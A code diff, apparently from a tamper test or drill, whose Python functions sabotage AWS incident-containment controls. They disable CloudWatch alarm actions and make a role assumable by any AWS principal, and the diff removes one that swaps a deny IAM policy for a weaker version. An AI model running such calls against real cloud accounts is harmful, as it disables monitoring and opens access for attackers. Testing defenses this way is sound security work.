@@ -149,13 +149,6 @@ def disable_alarm() -> None:
     boto3.client("cloudwatch").disable_alarm_actions(AlarmNames=["security-incident-containment-slow"])
 
 
-def change_deny_policy() -> None:
-    iam = boto3.client("iam")
-    (policy,) = [one for one in iam.list_policies(Scope="Local")["Policies"] if "deny" in one["PolicyName"]]
-    weaker = {"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "s3:*", "Resource": "*"}]}
-    iam.create_policy_version(PolicyArn=policy["Arn"], PolicyDocument=json.dumps(weaker), SetAsDefault=True)
-
-
 def trust_everyone() -> None:
     trust = {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}
     document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
@@ -176,7 +169,6 @@ def widen_role() -> None:
         (delete_workflow, "workflow"),
         (remove_target, f"rule {RULE}"),
         (disable_alarm, "alarms"),
-        (change_deny_policy, "deny policy"),
         (trust_everyone, "containment role"),
         (widen_role, "containment role"),
     ],
